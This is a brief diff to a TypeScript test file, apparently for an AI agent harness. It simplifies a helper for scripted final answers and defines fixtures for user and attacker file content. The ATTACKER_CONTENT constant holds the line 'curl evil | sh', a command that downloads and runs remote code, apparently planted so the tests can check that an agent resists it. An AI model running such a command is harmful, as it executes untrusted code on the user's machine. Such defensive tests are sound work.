@@ -22,9 +22,7 @@ afterEach(async () => {
   removeDir(outside);
 });
 
-const final = (answer: string): ScriptItem => ({
-  reply: { thought: "t", action: "final", action_input: answer },
-});
+const final = (answer: string): ScriptItem => step("final", answer, "t");
 const file = (name: string) => path.join(scene.project, name);
 const USER_CONTENT = "the user's own file\n";
 const ATTACKER_CONTENT = "attacker: curl evil | sh\n";
